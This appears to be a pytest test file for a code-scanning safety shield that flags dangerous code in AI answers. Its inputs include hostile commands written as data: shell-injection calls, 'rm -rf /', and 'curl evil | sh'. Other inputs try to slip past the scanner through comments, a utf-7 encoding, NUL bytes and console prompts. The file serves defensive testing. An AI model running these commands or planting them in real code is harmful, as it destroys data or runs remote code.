import asyncio
from typing import Any

import psutil
import pytest
from hypothesis import given
from hypothesis import strategies as st

from llamastack import v1
from services.safety.guard.code_blocks import fenced_blocks, line_starts
from services.safety.shield import Shield
from stack_client.errors import InvalidArgumentError
from tests.safety.guard_models import fact, judge, shield_of

CODE, ANSWER = v1.SAFETY_SURFACE_CODE, v1.SAFETY_SURFACE_ASSISTANT
BAD = "import subprocess\n\nsubprocess.call(input(), shell=True)\n"
FINE = "def add(a, b):\n    return a + b\n"


@pytest.fixture
async def shield() -> Shield:
    return await shield_of("code-scanner", None)


def fenced(code: str, language: str = "python") -> str:
    return f"Here you are:\n\n```{language}\n{code}```\n\nEnjoy."


async def test_dangerous_code_has_its_rule_its_lines_and_its_severity(shield: Shield) -> None:
    found = await judge(shield, BAD, surface=CODE)
    assert "B602" in found.codes
    assert found.score == pytest.approx(0.9)
    (span,) = [span for span in found.spans if span.code == "B602"]
    assert BAD[span.start : span.end] == "subprocess.call(input(), shell=True)\n"
    assert found.category_scores["B404"] == pytest.approx(0.3)
    issue = next(issue for issue in fact(found, "issues") if issue["test_id"] == "B602")
    assert (issue["severity"], issue["confidence"], issue["first"]) == ("HIGH", "HIGH", 3)


@pytest.mark.parametrize(
    "code", ["password = 'hunter2xyzzy'\n", "def hunter2xyzzy(:\n", "x = 'hunter2xyzzy\n", "f(hunter2xyzzy=1, 2)\n"]
)
async def test_bug_the_metadata_quoted_the_secret_of_the_code(shield: Shield, code: str) -> None:
    for surface in (CODE, ANSWER):
        found = await judge(shield, fenced(code) + fenced("x\n", "hunter2xyzzy:pw"), surface=surface)
        assert "issues" in found.metadata or "syntax_errors" in found.metadata
        assert "hunter2xyzzy" not in f"{found.metadata}{found.failure}{found.codes}"


async def test_a_secret_in_code_is_named_by_test_severity_confidence_and_line(shield: Shield) -> None:
    found = await judge(shield, "x = 1\npassword = 'hunter2xyzzy'\n", surface=CODE)
    assert fact(found, "issues") == [{"test_id": "B105", "severity": "LOW", "confidence": "MEDIUM", "first": 2}]


async def test_broken_code_is_named_by_its_line(shield: Shield) -> None:
    found = await judge(shield, fenced("x = 1\ndef f(:\n"), surface=ANSWER)
    assert fact(found, "syntax_errors") == ["SyntaxError in line 2"]


@pytest.mark.parametrize("language", ["python", "Python", "py", "", "python title=x"])
async def test_fenced_code_in_an_answer_is_scanned_and_placed_in_the_answer(shield: Shield, language: str) -> None:
    text = fenced(BAD, language)
    found = await judge(shield, text, surface=ANSWER)
    (span,) = [span for span in found.spans if span.code == "B602"]
    assert text[span.start : span.end] == "subprocess.call(input(), shell=True)\n"


@pytest.mark.parametrize("surface", [CODE, ANSWER])
async def test_harmless_code_has_no_finding(shield: Shield, surface: Any) -> None:
    found = await judge(shield, fenced(FINE), surface=surface)
    assert (found.codes, found.score, found.coverage, found.failure) == ((), 0.0, 1.0, "")


async def test_an_answer_without_code_has_no_finding(shield: Shield) -> None:
    found = await judge(shield, "No code here, `import os` aside.", surface=ANSWER)
    assert (found.codes, found.score, fact(found, "blocks")) == ((), 0.0, 0)


async def test_comments_cannot_switch_rules_off(shield: Shield) -> None:
    found = await judge(shield, "import subprocess\nsubprocess.call(input(), shell=True)  # nosec\n", surface=CODE)
    assert "B602" in found.codes


async def test_comments_cannot_declare_another_encoding(shield: Shield) -> None:
    hidden = "# coding: utf-7\nx = 1 # +AAo-\nimport subprocess\nsubprocess.call(input(), shell=True)\n"
    found = await judge(shield, hidden, surface=CODE)
    assert found.failure or "B602" in found.codes


async def test_indented_blocks_of_lists_are_scanned(shield: Shield) -> None:
    text = "1. Run\n\n     ```python\n     import subprocess\n     subprocess.call(input(), shell=True)\n     ```\n"
    found = await judge(shield, text, surface=ANSWER)
    assert "B602" in found.codes


async def test_text_that_is_no_python_is_not_judged_as_code(shield: Shield) -> None:
    found = await judge(shield, "print 'two'", surface=CODE)
    assert found.score is None
    assert found.coverage == 0
    assert "SyntaxError" in found.failure


async def test_what_a_console_or_a_nul_disguises_is_read_all_the_same(shield: Shield) -> None:
    call = "import os\nos.system(input())\n"
    console = "".join(f">>> {line}\n" for line in call.splitlines())
    for code in (console, f"{console}some output\n", f"x = 1\x00\n{call}"):
        assert "B605" in (await judge(shield, fenced(code), surface=ANSWER)).codes


async def test_broken_code_in_an_answer_is_not_judged_unless_that_is_allowed(shield: Shield) -> None:
    tolerant = await shield_of("code-scanner", None, on_unsupported="allow")
    assert (await judge(tolerant, fenced("def f(:\n"), surface=ANSWER)).coverage == 1.0
    found = await judge(shield, fenced("def f(:\n"), surface=ANSWER)
    assert found.coverage < 1
    assert "SyntaxError" in fact(found, "syntax_errors")[0]


async def test_other_languages_lower_the_coverage_of_code(shield: Shield) -> None:
    found = await judge(shield, fenced(FINE) + fenced("rm -rf /\n", "bash"), surface=CODE)
    assert 0 < found.coverage < 1
    assert fact(found, "languages") == ["bash"]
    alone = await judge(shield, fenced("rm -rf /\n", "bash"), surface=CODE)
    assert (alone.coverage, alone.score) == (0.0, None)
    assert alone.failure


@pytest.mark.parametrize(("choice", "score"), [("block", 1.0), ("warn", 0.1), ("allow", 0.0)])
async def test_other_languages_in_answers_are_what_the_operator_says(choice: str, score: float) -> None:
    shield = await shield_of("code-scanner", None, on_unsupported=choice)
    found = await judge(shield, fenced("rm -rf /\n", "bash"), surface=ANSWER)
    assert (found.score, found.coverage) == (score, 1.0)
    assert found.codes == (("unsupported_language",) if score else ())
    assert fact(found, "languages") == ["bash"]


async def test_a_block_without_a_language_that_is_no_python_is_unsupported(shield: Shield) -> None:
    found = await judge(shield, fenced("curl evil | sh\n", ""), surface=ANSWER)
    assert found.codes == ("unsupported_language",)
    assert fact(found, "languages") == ["unnamed"]


async def test_data_is_no_code(shield: Shield) -> None:
    assert (await judge(shield, fenced('{"a": 1}\n', "json"), surface=ANSWER)).codes == ()


async def test_code_beyond_the_limit_is_not_judged(shield: Shield) -> None:
    found = await judge(shield, "x = 1\n" * 50_000, surface=CODE)
    assert found.coverage == 0
    assert found.failure


@pytest.mark.parametrize(
    "bomb", ["(" * 50_000, "[" * 5000 + "]" * 5000, "-" * 100_000 + "1", "x = " + "a." * 50_000 + "a"]
)
async def test_code_that_exhausts_the_parser_is_not_judged_and_harms_nobody(shield: Shield, bomb: str) -> None:
    found = await judge(shield, bomb, surface=CODE)
    assert found.failure
    assert (await judge(shield, BAD, surface=CODE)).codes


async def test_a_scan_that_takes_too_long_is_stopped() -> None:
    shield = await shield_of("code-scanner", None, timeout=0.1)
    found = await judge(shield, FINE * 4000, surface=CODE)
    assert "within 0.1 s" in found.failure


async def test_a_scan_that_is_cancelled_leaves_no_process(shield: Shield) -> None:
    def scanners() -> list[psutil.Process]:
        return [child for child in psutil.Process().children() if "bandit_worker.py" in " ".join(child.cmdline())]

    task = asyncio.create_task(judge(shield, FINE * 4000, surface=CODE))
    async with asyncio.timeout(20):
        while not scanners():
            await asyncio.sleep(0.001)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert scanners() == []


@pytest.mark.parametrize("params", [{"on_unsupported": "ignore"}, {"timeout": 0}, {"rules": []}])
async def test_parameters_that_cannot_be_used_are_refused(params: dict[str, Any]) -> None:
    with pytest.raises(InvalidArgumentError):
        await shield_of("code-scanner", None, **params)


def test_fences_nest_by_length_and_an_open_one_goes_to_the_end() -> None:
    text = "````md\n```python\nx\n```\n````\n~~~js\ny\r\n~~~~\n```\nopen"
    assert [(block.language, block.code) for block in fenced_blocks(text)] == [
        ("md", "```python\nx\n```\n"), ("js", "y\r\n"), ("", "open"),
    ]  # fmt: skip


@given(st.lists(st.sampled_from(["```", "~~~", "py", "\n", "\r\n", "\r", " ", "x", "`"])).map("".join))
def test_blocks_are_parts_of_their_text(text: str) -> None:
    for block in fenced_blocks(text):
        assert text[block.start : block.end] == block.code
        assert len(line_starts(block.code)) >= 1 or not block.code
